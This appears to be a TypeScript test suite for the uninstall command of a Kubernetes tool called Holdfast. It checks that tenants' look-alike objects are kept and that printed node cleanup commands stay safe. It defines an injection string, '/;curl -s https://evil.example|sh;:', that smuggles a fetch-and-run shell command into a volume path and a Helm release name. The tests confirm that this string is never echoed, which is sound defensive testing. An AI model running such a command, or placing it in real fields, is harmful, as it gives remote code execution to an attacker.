import { expect } from 'chai';
import type { KubeObject } from '../../api/meta.js';
import { InstalledCluster, ownClaim } from '../testing/installed-cluster.js';
import { ProcessKilled } from '../testing/memory-cluster.js';
import { EVERYTHING, FOREIGN, MANIFESTS, PLAIN, installed } from '../testing/installed-objects.js';
import { uninstall } from './uninstall.js';

const LABELS = { 'app.kubernetes.io/name': 'holdfast' };
const EVIL = '/;curl -s https://evil.example|sh;:';

function object(apiVersion: string, kind: string, metadata: KubeObject['metadata'], more: object = {}): KubeObject {
  return { apiVersion, kind, metadata: { labels: LABELS, ...metadata }, ...more };
}

function agents(namespace: string, name: string, path: string): KubeObject {
  const volumes = [{ name: 'cni-bin', hostPath: { path } }];
  return object('apps/v1', 'DaemonSet', { namespace, name }, { spec: { template: { spec: { volumes } } } });
}

function configMap(annotations: Record<string, string> = {}, more: Partial<KubeObject['metadata']> = {}): KubeObject {
  return object('v1', 'ConfigMap', { namespace: 'tenant', name: 'holdfast-x', annotations, ...more });
}

describe('kubectl holdfast uninstall, in a cluster with tenants who use the label and names of Holdfast,', () => {
  for (const [title, theirs] of [
    ['a DaemonSet with a path', agents('tenant', 'holdfast-agent', EVIL)],
    ['a release of Helm', configMap({ 'meta.helm.sh/release-name': EVIL })],
    [
      'a pod that does not end',
      object('v1', 'Pod', {
        namespace: 'tenant',
        name: 'holdfast-x',
        labels: { ...LABELS, 'app.kubernetes.io/component': 'agent' },
      }),
    ],
    ['a Deployment', object('apps/v1', 'Deployment', { namespace: 'tenant', name: 'holdfast-db' })],
    ['a Secret', object('v1', 'Secret', { namespace: 'tenant', name: 'holdfast-db' })],
    ['a namespace with VMs', object('v1', 'Namespace', { name: 'holdfast-vms' })],
  ] as const) {
    it(`removes the installation, and neither removes nor shows ${title}`, async () => {
      // as the API server sorts: others first
      const cluster = new InstalledCluster([theirs, ...MANIFESTS, ...FOREIGN]);
      const foreign = new InstalledCluster([theirs, ...FOREIGN]).names();
      expect(await uninstall(EVERYTHING, cluster.deps())).to.equal(true);
      expect(cluster.names()).to.deep.equal(foreign);
      expect([...cluster.printed, ...cluster.logged].join('\n')).not.to.match(/evil|holdfast-(x|db|vms)/);
    });
  }

  it('is not stopped by a tenant who creates an object again and again', async () => {
    const cluster = installed([configMap()]);
    cluster.beforeWrite = () => cluster.add(configMap({}, { uid: `uid-of-${cluster.writes}` }));
    expect(await uninstall(PLAIN, cluster.deps())).to.equal(true);
  });

  it('finds an installation in other namespaces, although it is killed after each write', async () => {
    const text = JSON.stringify(MANIFESTS)
      .replaceAll('holdfast-system', 'network')
      .replaceAll('holdfast-agents', 'holdfast-nodes');
    // the chart does not create the namespace of its release
    const moved = (JSON.parse(text) as KubeObject[]).filter(
      ({ kind, metadata }) => kind !== 'Namespace' || metadata.name !== 'network',
    );
    const cluster = new InstalledCluster([...moved, ...FOREIGN]);
    let end: unknown;
    do {
      cluster.killAfter = cluster.writes + 1;
      end = await uninstall(EVERYTHING, cluster.deps()).catch((error: unknown) => error);
      if (end !== true) expect(end).to.be.instanceOf(ProcessKilled);
    } while (end !== true);
    expect(cluster.names()).to.deep.equal(new InstalledCluster(FOREIGN).names());
  });

  describe('keeps a namespace of the installation', () => {
    const metadata = { namespace: 'holdfast-system', name: 'web' };
    for (const [content, foreign] of [
      ['IPAMClaim vm.data', ownClaim('holdfast-system/vm.data')],
      ['VirtualMachine web', object('kubevirt.io/v1', 'VirtualMachine', metadata)],
      ['PersistentVolumeClaim web', object('v1', 'PersistentVolumeClaim', metadata)],
    ] as const) {
      it(`that contains ${content}`, async () => {
        const cluster = installed([foreign]);
        await uninstall(PLAIN, cluster.deps());
        expect(cluster.names())
          .to.include('Namespace holdfast-system')
          .and.include(content.replace(' ', ' holdfast-system/'));
        expect(cluster.printed.join('\n')).to.include(`Namespace holdfast-system: it contains ${content}`);
      });
    }

    it('in which somebody starts a pod after the plan was made', async () => {
      const cluster = installed();
      cluster.beforeWrite = () => cluster.add(object('v1', 'Pod', metadata));
      expect(await uninstall(PLAIN, cluster.deps())).to.equal(true);
      expect(cluster.names('Namespace')).to.deep.equal(['Namespace holdfast-system', 'Namespace tenant']);
      expect(cluster.logged).to.include('Namespace holdfast-system stays, because it contains Pod web');
    });
  });

  describe('prints', () => {
    for (const [path, printed] of [
      ['/var/lib/rancher/k3s/data/cni', '/var/lib/rancher/k3s/data/cni'],
      [EVIL, '/opt/cni/bin'],
      ['/', '/opt/cni/bin'],
      ['bin', '/opt/cni/bin'],
    ] as const) {
      it(`the command for nodes with ${printed} if the agents have ${path}`, async () => {
        const cluster = installed([agents('holdfast-agents', 'holdfast-agent', path)]);
        await uninstall(EVERYTHING, cluster.deps());
        expect(cluster.printed).to.include(`  rm -rf ${printed}/holdfast /run/holdfast`);
        expect(cluster.printed.some((line) => line.startsWith('Replace the directory'))).to.equal(path !== printed);
      });
    }

    it('no text of an object in a command, and few of many refusals', async () => {
      const managed = Array.from({ length: 20 }, (_, index) =>
        configMap(
          { 'meta.helm.sh/release-name': index === 0 ? EVIL : `r${index}` },
          { namespace: 'holdfast-system', name: `holdfast-${index}` },
        ),
      );
      const cluster = installed(managed);
      expect(await uninstall(PLAIN, cluster.deps())).to.equal(false);
      expect(cluster.logged).to.have.length(5);
      expect(cluster.logged[0]).to.match(/helm uninstall <name>$/);
    });
  });
});
